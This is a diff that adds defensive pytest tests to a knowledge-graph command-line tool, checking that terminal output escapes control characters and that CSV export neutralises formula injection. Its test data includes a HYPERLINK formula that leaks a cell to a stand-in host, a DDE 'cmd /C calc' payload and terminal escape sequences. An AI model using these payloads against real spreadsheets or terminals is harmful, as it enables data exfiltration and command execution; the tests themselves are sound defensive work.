@@ -1,9 +1,11 @@
 """The command line, end to end on the built bundled store (CliRunner, no subprocess)."""
 from __future__ import annotations
 
+import copy
 import csv
 import io
 import json
+import re
 
 import networkx as nx
 import pytest
@@ -124,3 +126,130 @@ def test_bulk_build_and_oxigraph_engine_from_the_cli(tmp_path):
         result = runner.invoke(cli, ["sparql", query, "--engine", engine, "--format", "csv", "--store", store])
         assert result.exit_code == 0, result.output
         assert result.output.splitlines() == ["n", "4"]
+
+
+# -- hostile data: no formula reaches a spreadsheet, no control character reaches a terminal ---------------------
+UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")   # written here, not imported
+ESCAPES = "\x1b]0;owned\x07\x1b[2J\r\u202e\x9b\x00"
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\tleading tab", "\rleading return", "＝1+1", "'already quoted"]
+
+
+@pytest.fixture
+def hostile_project(built_store):
+    from kg import Tsunagari
+
+    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
+    project["title"] = "title" + ESCAPES
+    project["organization"].update(written="org" + ESCAPES, name="org" + ESCAPES)
+    project["region_text"] = "region" + ESCAPES
+    project["description"], project["category"] = "about" + ESCAPES, "category" + ESCAPES
+    return project
+
+
+def shown(text: str) -> str:
+    """What a command printed, once checked that no control character (but tab and newline) is in it."""
+    assert not UNSAFE.search(text), repr(text)
+    assert "\\u001b]0;owned\\u0007" in text          # the data is shown, escaped, not dropped
+    return text
+
+
+def test_text_output_never_carries_control_characters(run, hostile_project, monkeypatch):
+    from kg import Tsunagari
+
+    result = {"id": hostile_project["id"], "score": 0.5, "title": hostile_project["title"],
+              "organization": "org" + ESCAPES, "regions": ["region" + ESCAPES],
+              "why": {"embedding": 0.5, "shared_target_groups": [], "shared_themes": [], "related_via_broader": [],
+                      "region": "near" + ESCAPES, "same_organization": False}}
+    family = {"id": "family-1", "size": 1, "name_en": "en" + ESCAPES, "name_ja": "ja",
+              "members": [{"id": hostile_project["id"], "title": hostile_project["title"]}]}
+    problem = {"file": "list.csv" + ESCAPES, "row": 3, "column": "取組名", "message": "bad" + ESCAPES,
+               "hint": "", "level": "error"}
+    monkeypatch.setattr(Tsunagari, "projects", lambda self, **filters: [hostile_project])
+    monkeypatch.setattr(Tsunagari, "project", lambda self, project_id: hostile_project)
+    monkeypatch.setattr(Tsunagari, "similar", lambda self, project_id, **options: [result])
+    monkeypatch.setattr(Tsunagari, "search", lambda self, text, **options: [result])
+    monkeypatch.setattr(Tsunagari, "families", lambda self, k=5: [family])
+    monkeypatch.setattr(Tsunagari, "problems", property(lambda self: [problem]))
+    for command in (["projects"], ["projects", "--csv"], ["show", "x"], ["similar", "x"], ["search", "x"],
+                    ["families"], ["problems"]):
+        shown(run(*command).output)
+    for command in (["projects", "--json"], ["show", "x", "--json"], ["similar", "x", "--json"]):
+        parsed = json.loads(shown(run(*command).output))       # still JSON, and the same value
+        assert (parsed[0] if isinstance(parsed, list) else parsed)["title"] == "title" + ESCAPES
+
+
+def test_sparql_output_never_carries_control_characters(run):
+    query = 'SELECT ?x WHERE { VALUES ?x { "a\\u001b]0;owned\\u0007\\u202eb" } }'
+    shown(run("sparql", query).output)
+    shown(run("sparql", query, "--format", "csv").output)
+    assert json.loads(shown(run("sparql", query, "--format", "json").output)) == [{"x": "a\x1b]0;owned\x07\u202eb"}]
+
+
+def test_errors_and_build_validate_lines_never_carry_control_characters(run, built_store, monkeypatch, tmp_path):
+    from types import SimpleNamespace
+
+    from kg import Tsunagari
+    from kg.errors import KgError, RowError
+
+    def refuse(self, project_id):
+        raise KgError("no project " + ESCAPES)
+    monkeypatch.setattr(Tsunagari, "project", refuse)
+    shown(run("show", "x", ok=False).output)
+    monkeypatch.setattr(Tsunagari, "validate", lambda self: SimpleNamespace(conforms=False, text="bad" + ESCAPES))
+    shown(run("validate", ok=False).output)
+    problem = RowError("list.csv" + ESCAPES, 3, "取組名", "empty title" + ESCAPES)
+    report = SimpleNamespace(problems=[problem], projects=1, triples=2, seconds=0.1, generation="g" + ESCAPES,
+                             skipped=[problem], warnings=[])
+    monkeypatch.setattr(Tsunagari, "build", classmethod(lambda cls, *args, **options: (None, report)))
+    built = CliRunner().invoke(cli, ["build", "--no-embed", "--store", str(tmp_path / "s")])
+    assert built.exit_code == 0, built.output
+    shown(built.output)
+
+
+def test_export_escapes_only_for_a_terminal(run, monkeypatch):
+    import kg.cli
+    from kg import Tsunagari
+
+    data = '<http://a> <http://b> "x\x1b]0;owned\x07" .\n'.encode("utf-8")
+    monkeypatch.setattr(Tsunagari, "export", lambda self, fmt: data)
+    assert run("export", "--format", "nt").stdout_bytes == data             # a file or a pipe: exact bytes
+    monkeypatch.setattr(kg.cli, "stdout_is_terminal", lambda: True)
+    to_terminal = shown(run("export", "--format", "nt").output)
+    assert [str(o) for o in Graph().parse(data=to_terminal, format="nt").objects()] == ["x\x1b]0;owned\x07"]
+
+
+def test_csv_cells_never_start_a_formula(built_store):
+    from kg import Tsunagari
+    from kg.export import projects_csv, raw_cell
+
+    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
+    rows = []
+    for formula in FORMULAS:
+        row = copy.deepcopy(project)
+        row["title"] = row["organization"]["written"] = row["region_text"] = formula
+        rows.append(row)
+    cells = list(csv.DictReader(io.StringIO(projects_csv(rows), newline="")))
+    for formula, written in zip(FORMULAS, cells):
+        for column in ("title", "organization", "region_text"):
+            assert written[column].startswith("'") and raw_cell(written[column]) == formula
+        assert written["fiscal_year"] == str(project["fiscal_year"])            # numbers untouched
+    plain = list(csv.DictReader(io.StringIO(projects_csv([project]))))[0]
+    assert plain["title"] == project["title"] and raw_cell(plain["title"]) == project["title"]
+
+
+@pytest.mark.parametrize("command", [["projects", "--csv"], ["export", "--format", "csv"]])
+def test_csv_commands_neutralise_formulas(run, built_store, monkeypatch, command):
+    from kg import Tsunagari
+
+    project = copy.deepcopy(Tsunagari.open(built_store).projects()[0])
+    hostile = []
+    for formula in FORMULAS:
+        row = copy.deepcopy(project)
+        row["title"] = formula
+        hostile.append(row)
+    monkeypatch.setattr(Tsunagari, "projects", lambda self, **filters: hostile)
+    rows = list(csv.DictReader(io.StringIO(run(*command).stdout_bytes.decode("utf-8"))))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in row.values()), row
